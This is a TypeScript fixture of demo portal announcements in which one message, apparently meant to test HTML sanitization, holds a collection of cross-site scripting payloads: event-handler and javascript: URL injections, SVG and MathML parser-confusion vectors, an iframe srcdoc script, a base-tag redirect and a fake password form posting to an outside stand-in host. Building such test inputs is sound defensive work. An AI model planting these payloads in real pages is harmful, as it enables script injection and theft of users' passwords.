import type { Announcement } from '@contract/announcement';

/** Everything that must not reach a reader, around one sentence that may. */
const hostileMessage = `
<script>document.title = 'taken over'</script>
<p onclick="document.title = 'taken over'" style="position: fixed; inset: 0">
  On Mondays an email to <a href="mailto:support@demo.example" onmouseover="alert(1)">support</a>
  is answered sooner than a <a href="javascript:document.title='taken over'">call</a>.
</p>
<img src="x" onerror="document.title = 'taken over'">
<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate><a href="javascript:alert(1)"><text>Press</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mtext></math>
<svg><textarea><img src=x onerror=alert(1)></textarea></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<style>body { display: none }</style>
<iframe src="https://elsewhere.example/" srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
<form action="https://elsewhere.example/"><label>Password <input name="password"></label><button>Sign in</button></form>
<a href="data:text/html,<script>alert(1)</script>"></a><base href="https://elsewhere.example/">
`;

/** Those of every world, the newest first. Their ids are fixed, so that one that was dismissed stays so. */
export const demoAnnouncements: readonly Announcement[] = [
  {
    id: '5b0c6a52-6f0e-4c1d-9a3b-2d6b8f1e7a01',
    header: 'This is a demonstration',
    message: '<p>Nothing you order here is charged or registered.</p>',
    variant: 'info',
    dismissable: true,
    visible: true,
  },
  {
    id: '5b0c6a52-6f0e-4c1d-9a3b-2d6b8f1e7a02',
    header: 'Maintenance on Sundays',
    message:
      '<p>From 6 to 7 AM Central the portal may be away for <strong>a few minutes</strong>.</p>',
    variant: 'warning',
    dismissable: false,
    visible: true,
  },
  {
    id: '5b0c6a52-6f0e-4c1d-9a3b-2d6b8f1e7a03',
    header: 'Mondays are busy',
    message: hostileMessage,
    variant: 'info',
    dismissable: true,
    visible: true,
  },
  {
    id: '5b0c6a52-6f0e-4c1d-9a3b-2d6b8f1e7a04',
    header: 'Draft: holiday hours',
    message: '<p>Our hours over the holidays will stand here.</p>',
    variant: 'info',
    dismissable: true,
    visible: false,
  },
];
